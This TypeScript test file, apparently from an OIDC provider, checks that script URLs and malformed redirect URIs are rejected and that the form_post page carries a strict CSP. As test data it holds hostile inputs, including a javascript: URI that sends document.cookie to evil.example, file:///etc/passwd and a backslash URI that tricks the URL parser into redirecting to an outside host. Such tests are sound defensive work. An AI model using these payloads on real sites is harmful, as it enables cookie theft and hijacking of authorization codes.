/**
 * Script URLs and malformed URIs as redirect URIs (issue 12 item 5): refused in the config (naming the key), at
 * the authorization endpoint (compared as raw strings: `http://localhost:PORT\@evil.example/callback` is not
 * rewritten into a loopback URL), and at response time for a client stored before the policy existed; the
 * form_post page carries a CSP that allows only its own script and posts only to the redirect URI's origin.
 */

import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { after, before, describe, test } from 'node:test';
import { parseConfig } from '../../../src/config/load.js';
import { ConfigError } from '../../../src/lib/errors.js';
import type { Client } from '../../../src/storage/types.js';
import { startTestFerry, type TestFerry } from '../../helpers/ferry.js';
import { UserAgent } from '../../helpers/user-agent.js';

const config = (uris: string[]) => `
issuer: http://127.0.0.1:5556/dex
storage: { type: memory }
web: { http: 127.0.0.1:5556 }
staticClients:
- id: app
  name: App
  secret: s3cret
  redirectURIs: ${JSON.stringify(uris)}
`;

describe('config', () => {
  test('each refused redirect URI is a ConfigError naming the key', () => {
    const bad = ['javascript:alert(document.cookie)', 'data:text/html;base64,PHNjcmlwdD4=', 'vbscript:msgbox(1)', 'file:///etc/passwd', 'blob:https://app.example/1', 'http://localhost:8080\\@evil.example/callback', 'http://127.0.0.1:9/cb#frag'];
    for (const uri of bad) {
      assert.throws(() => parseConfig(config(['https://ok.example/cb', uri]), {}), (err: unknown) => {
        assert.ok(err instanceof ConfigError, String(err));
        assert.equal(err.issues[0]?.path, 'staticClients[0].redirectURIs[1]', uri);
        return true;
      });
    }
  });

  test('https, loopback http, plain http (as dex), private-use schemes, the OOB URN and /device/callback load', () => {
    const good = ['https://app.example/cb', 'http://127.0.0.1:8000/cb', 'http://localhost/cb', 'http://[::1]:8000/cb', 'http://intranet.example/cb', 'com.example.app:/oauth2redirect', 'urn:ietf:wg:oauth:2.0:oob', '/device/callback'];
    assert.deepEqual(parseConfig(config(good), {}).config.staticClients[0]?.redirectURIs, good);
  });
});

let f: TestFerry;
const stored = (over: Partial<Client>): Client => ({
  id: 'legacy', secret: 's3cret', public: false, redirectURIs: [], trustedPeers: [], name: 'Legacy', logoURL: '', allowedConnectors: [],
  postLogoutRedirectURIs: [], backchannelLogoutURI: '', refreshTokenLifetime: '', clientCredentialsClaims: null, ssoSharedWith: null, mfaChain: null, ...over,
});

before(async () => {
  f = await startTestFerry((issuer, listen) => `
issuer: ${issuer}
storage: { type: memory }
web: { http: '${listen}' }
oauth2: { skipApprovalScreen: true }
connectors: [{ type: mockCallback, id: cb, name: Callback }]
staticClients:
- { id: native, name: Native, public: true }
- { id: web, name: Web, secret: s3cret, redirectURIs: ['https://app.example.com/cb?tenant=a'] }
`);
  // As if written before the policy existed (an older Ferry, or dex's own API, wrote it to the shared store).
  await f.ferry.deps.storage.createClient(stored({ redirectURIs: ['javascript:fetch("//evil.example/?"+document.cookie)'] }));
});
after(() => f?.stop());

const S256 = { code_challenge: 'E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM', code_challenge_method: 'S256' };
const auth = (params: Record<string, string>) => `${f.issuer}/auth/cb?${new URLSearchParams({ response_type: 'code', scope: 'openid', state: 'st', ...S256, ...params })}`;

describe('the authorization endpoint', () => {
  test('attack: a backslash loopback URI of a public client gets no code (raw string, not WHATWG-rewritten)', async () => {
    const port = new URL(f.issuer).port;
    const evil = `http://localhost:${port}\\@evil.example/callback`;
    const page = await new UserAgent(f.issuer).browse(auth({ client_id: 'native', redirect_uri: evil }));
    assert.equal(page.redirect, undefined, `no redirect (got ${page.redirect?.href})`);
    assert.equal(page.status, 400);
  });

  test('a clean loopback URI of the same client still receives the code, query appended to the raw string', async () => {
    const page = await new UserAgent(f.issuer).browse(auth({ client_id: 'native', redirect_uri: 'http://127.0.0.1:43123/cb' }));
    assert.match(page.redirect?.href ?? '', /^http:\/\/127\.0\.0\.1:43123\/cb\?state=st&code=\w+$/);
    const web = await new UserAgent(f.issuer).browse(auth({ client_id: 'web', redirect_uri: 'https://app.example.com/cb?tenant=a' }));
    assert.match(web.redirect?.href ?? '', /^https:\/\/app\.example\.com\/cb\?tenant=a&state=st&code=\w+$/);
  });

  test('attack: a stored javascript: redirect URI gets neither a form_post page nor a redirect, even for an error', async () => {
    const uri = 'javascript:fetch("//evil.example/?"+document.cookie)';
    for (const extra of [{}, { scope: 'bogus' }, { response_type: 'nonsense' }] as Record<string, string>[]) {
      const page = await new UserAgent(f.issuer).browse(auth({ client_id: 'legacy', redirect_uri: uri, response_mode: 'form_post', ...extra }));
      assert.equal(page.redirect, undefined);
      assert.equal(page.status, 400, JSON.stringify(extra));
      assert.doesNotMatch(page.html, /<form method="post" action="javascript/i);
    }
  });

  test('form_post: only its own script (by hash) runs, and the form posts only to the redirect origin', async () => {
    const page = await new UserAgent(f.issuer).browse(auth({ client_id: 'web', redirect_uri: 'https://app.example.com/cb?tenant=a', response_mode: 'form_post' }));
    assert.equal(page.status, 200);
    assert.match(page.html, /<form method="post" action="https:\/\/app\.example\.com\/cb\?tenant=a">/);
    const csp = page.headers.get('content-security-policy') ?? '';
    const script = /<script>([^<]*)<\/script>/.exec(page.html)?.[1] ?? '';
    const hash = createHash('sha256').update(script).digest('base64');
    assert.match(csp, new RegExp(`script-src 'sha256-${hash.replace(/[+/=]/g, '\\$&')}'`));
    assert.match(csp, /default-src 'none'/);
    assert.match(csp, /form-action https:\/\/app\.example\.com(;|$)/);
    assert.match(csp, /frame-ancestors 'none'/);
    assert.doesNotMatch(page.html, /\bon[a-z]+=/i, 'no inline event handler (a CSP hash does not cover those)');
  });
});
